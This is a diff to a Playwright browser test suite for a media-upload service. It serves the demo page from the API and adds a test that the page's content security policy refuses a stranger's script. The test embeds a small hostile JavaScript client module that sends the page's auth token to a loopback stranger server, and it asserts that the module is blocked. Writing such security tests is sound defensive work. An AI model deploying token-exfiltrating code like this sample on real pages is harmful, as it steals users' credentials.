@@ -1,5 +1,6 @@
-"""The demo page in a real browser (Debian's chromium, driven by Playwright), served from
-an origin of its own, against the API, the S3 server and a worker on origins of theirs."""
+"""The demo page in a real browser (Debian's chromium, driven by Playwright), served by the
+API, against the S3 server (an origin of its own, so the store's CORS is real) and a
+worker; and the page refusing a stranger's code."""
 
 from __future__ import annotations
 
@@ -15,7 +16,6 @@ from typing import Any
 
 import pytest
 
-from mediagate.api.app import DEMO_PAGE
 from mediagate.auth.tokens import issue_token
 from mediagate.config import Settings, load_settings
 from mediagate.db import media_repository as repo
@@ -45,28 +45,53 @@ pytestmark = pytest.mark.skipif(
 )
 
 
+# A server on another loopback address, with a client module of its own that sends the
+# token it is given home: the demo page must never run it.
+STRANGER_CLIENT = """
+export function createClient({ token }) {
+  fetch(new URL("/stolen?token=" + token, import.meta.url))
+  return { uploadAll: async () => [] }
+}
+"""
+
+
+class _Recording(http.server.SimpleHTTPRequestHandler):
+    requests: list[str]
+
+    def log_message(self, *_args: Any) -> None:
+        type(self).requests.append(self.path)
+
+
 @pytest.fixture(scope="module")
-def page_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    """The demo page as a static file on an origin that is neither the API nor the store."""
-    root = tmp_path_factory.mktemp("page")
-    shutil.copy(DEMO_PAGE, root / "demo.html")
-    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+def stranger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
+    root = tmp_path_factory.mktemp("stranger")
+    (root / "client").mkdir()
+    (root / "client" / "mediagate.js").write_text(STRANGER_CLIENT)
+    handler = type("Handler", (_Recording,), {"requests": []})
+    server = http.server.ThreadingHTTPServer(
+        ("127.0.0.2", 0), functools.partial(handler, directory=str(root))
+    )
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
-    yield f"http://127.0.0.1:{server.server_address[1]}"
+    yield f"http://127.0.0.2:{server.server_address[1]}", handler.requests
     server.shutdown()
 
 
 @pytest.fixture(scope="module")
+def api_port() -> int:
+    return services.free_port()
+
+
+@pytest.fixture(scope="module")
 def browser_env(
-    database_url: str, s3_endpoint: str, env: dict[str, str], page_server: str
+    database_url: str, s3_endpoint: str, env: dict[str, str], api_port: int
 ) -> dict[str, str]:
-    """A bucket and an API that allow the page's origin, and nothing more."""
+    """A bucket that allows the page's origin (the API's), and an API serving the page."""
     return make_env(
         database_url,
         s3_endpoint,
-        CORS_ALLOWED_ORIGINS=page_server,
+        CORS_ALLOWED_ORIGINS=f"http://127.0.0.1:{api_port}",
+        DEMO_PAGE="true",
         CLAMAV_PORT=env["CLAMAV_PORT"],
         JWT_SECRET=env["JWT_SECRET"],
     )
@@ -74,14 +99,14 @@ def browser_env(
 
 @pytest.fixture(scope="module")
 async def stack(
-    browser_env: dict[str, str], database: None, clamd: services.Clamd
+    browser_env: dict[str, str], database: None, clamd: services.Clamd, api_port: int
 ) -> AsyncIterator[tuple[services.ServedApi, Settings]]:
     settings = load_settings(browser_env)
     setup_storage(settings, bucket_events=False, require_tls=False)
     worker = WorkerProcess(browser_env)
     await worker.start(settings)
     try:
-        with services.serve_api(browser_env, "--workers", "1") as api:
+        with services.serve_api(browser_env, "--workers", "1", port=api_port) as api:
             yield api, settings
     finally:
         worker.stop()
@@ -98,7 +123,6 @@ def _files(directory: Path) -> list[Path]:
 
 async def test_the_demo_page_uploads_a_photo_a_video_and_a_virus(
     stack: tuple[services.ServedApi, Settings],
-    page_server: str,
     settings: Settings,
     tenant: Tenant,
     tmp_path: Path,
@@ -107,10 +131,7 @@ async def test_the_demo_page_uploads_a_photo_a_video_and_a_virus(
 
     api, _ = stack
     token = issue_token(settings, tenant.principal, 600)
-    address = (
-        f"{page_server}/demo.html?endpoint={api.url}/graphql"
-        f"&token={token}&session={tenant.session_id}"
-    )
+    address = f"{api.url}/demo#token={token}&session={tenant.session_id}"
     console_errors: list[str] = []
     graphql_posts: list[str] = []
     frames: list[dict[str, Any]] = []
@@ -189,7 +210,6 @@ async def test_the_demo_page_uploads_a_photo_a_video_and_a_virus(
 
 async def test_a_large_upload_resumes_after_a_page_reload(
     stack: tuple[services.ServedApi, Settings],
-    page_server: str,
     settings: Settings,
     tenant: Tenant,
     tmp_path: Path,
@@ -200,10 +220,7 @@ async def test_a_large_upload_resumes_after_a_page_reload(
 
     api, _ = stack
     token = issue_token(settings, tenant.principal, 600)
-    address = (
-        f"{page_server}/demo.html?endpoint={api.url}/graphql"
-        f"&token={token}&session={tenant.session_id}&multipartThreshold={MIB}"
-    )
+    address = f"{api.url}/demo#token={token}&session={tenant.session_id}&multipartThreshold={MIB}"
     video = media.padded_video(tmp_path / "walkaround.mp4", 40 * MIB)
     parts_sent: list[list[str]] = [[]]  # per page load
     graphql_posts: list[str] = []
@@ -268,3 +285,52 @@ async def test_a_large_upload_resumes_after_a_page_reload(
 
 def _part_number(url: str) -> int:
     return int(url.split("partNumber=", 1)[1].split("&", 1)[0])
+
+
+async def test_the_demo_page_runs_no_strangers_code_and_keeps_the_token_out_of_the_address(
+    stack: tuple[services.ServedApi, Settings],
+    stranger: tuple[str, list[str]],
+    settings: Settings,
+    tenant: Tenant,
+) -> None:
+    """The attack of old: an endpoint elsewhere whose client module steals the token."""
+    from playwright.async_api import async_playwright
+
+    api, _ = stack
+    elsewhere, requests_elsewhere = stranger
+    token = issue_token(settings, tenant.principal, 600)
+    address = (
+        f"{api.url}/demo?endpoint={elsewhere}/graphql#token={token}&session={tenant.session_id}"
+    )
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        try:
+            page = await browser.new_page()
+            response = await page.goto(address)
+            assert response is not None
+            await page.wait_for_selector("body[data-ready]", state="attached")
+            shown_address = page.url
+            # Code injected into the page may not fetch a script from elsewhere either.
+            blocked = await page.evaluate(
+                """(source) => new Promise((resolve) => {
+                    document.addEventListener(
+                        "securitypolicyviolation", (event) => resolve(event.blockedURI)
+                    )
+                    const script = document.createElement("script")
+                    script.type = "module"
+                    script.src = source
+                    document.head.append(script)
+                })""",
+                f"{elsewhere}/client/mediagate.js",
+            )
+            headers = await response.all_headers()
+        finally:
+            await browser.close()
+
+    assert token not in shown_address and "#" not in shown_address
+    assert blocked == f"{elsewhere}/client/mediagate.js"
+    assert "script-src 'self'" in headers["content-security-policy"]
+    assert "default-src 'none'" in headers["content-security-policy"]
+    assert headers["referrer-policy"] == "no-referrer"
+    assert headers["x-content-type-options"] == "nosniff"
+    assert requests_elsewhere == []
